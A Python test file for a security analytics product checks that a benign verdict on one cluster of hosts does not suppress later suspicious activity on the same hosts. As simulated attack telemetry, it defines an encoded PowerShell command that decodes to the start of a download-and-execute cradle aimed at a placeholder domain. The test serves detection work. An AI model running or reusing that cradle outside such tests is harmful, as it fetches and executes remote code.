"""A benign verdict covers the members the analyst saw, not what rides the same hosts later (review R5, finding 2).

The analyst marks the fleet's second cluster (``telemetry-sync.example`` and
``sync.exe`` on 6 hosts) benign.  Later the same day ``sync.exe`` starts an
encoded PowerShell that resolves a new domain on the same 6 hosts: both are
near-identical twins of the suppressed pivot.  The suppression used to absorb
every twin, including these that did not exist at the verdict: no cluster, no
webhook, nothing in the queue.  Now the suppression keeps the members of the
cluster it was given on, and the new entities form a cluster again (the same
case, under the new pivot, with the benign verdict not carried onto it).
"""

from __future__ import annotations

from typing import Any

from graphsiem.api.state_verdicts import suppressed_members
from tests.api.conftest import Api
from tests.api.fleet import DAY, SECOND_DOMAIN, SECOND_HOSTS, START, _dns, _process

PAYLOAD_DOMAIN = "upd-rollout-cdn.example"
PAYLOAD_CMD = "powershell.exe -nop -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHUAcABkAA=="


def _payload_events() -> list[dict[str, Any]]:
    events = []
    for index, host in enumerate(SECOND_HOSTS):
        ts = START + 1.9 * DAY + 60 * index
        events.append(_process(host, ts, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                               PAYLOAD_CMD, r"C:\Users\Public\sync.exe"))
        events.append(_dns(host, ts + 5, PAYLOAD_DOMAIN,
                           r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"))
    return events


def _second(api: Api) -> dict[str, Any]:
    items = api.get("/v1/clusters").json()["items"]
    return next(c for c in items if sorted(c["hosts"]) == sorted(SECOND_HOSTS))


def _with_payload(api: Api) -> list[dict[str, Any]]:
    items = api.get("/v1/clusters").json()["items"]
    out = []
    for item in items:
        members = api.get(f"/v1/clusters/{item['id']}").json()["members"]
        if any(m["key"] == PAYLOAD_DOMAIN for m in members):
            out.append(item)
    return out


def test_a_payload_that_rides_a_benign_cluster_is_detected(fleet_api: Api) -> None:
    second = _second(fleet_api)
    assert second["pivot"]["key"] == SECOND_DOMAIN
    assert fleet_api.patch(f"/v1/clusters/{second['id']}", role="analyst",
                           json={"verdict": "benign", "note": "vendor sync agent"}).status_code == 200

    assert fleet_api.post("/v1/events", role="ingest", json=_payload_events()).status_code == 200
    fleet_api.ctx.ingest.catch_up()
    assert fleet_api.detect()["status"] == "done"

    found = _with_payload(fleet_api)
    assert len(found) == 1, [c["pivot"] for c in fleet_api.get("/v1/clusters").json()["items"]]
    assert sorted(found[0]["hosts"]) == sorted(SECOND_HOSTS)
    # the verdict was on what the analyst saw: it is not carried onto the new entities
    assert (found[0]["triage"] or {}).get("verdict") != "benign"


def test_the_benign_cluster_alone_stays_suppressed(fleet_api: Api) -> None:
    second = _second(fleet_api)
    fleet_api.patch(f"/v1/clusters/{second['id']}", role="analyst", json={"verdict": "benign"})
    assert suppressed_members(fleet_api.ctx.state)[("domain", SECOND_DOMAIN)] >= {("domain", SECOND_DOMAIN)}

    fleet_api.detect()

    hosts = [sorted(c["hosts"]) for c in fleet_api.get("/v1/clusters").json()["items"]]
    assert sorted(SECOND_HOSTS) not in hosts
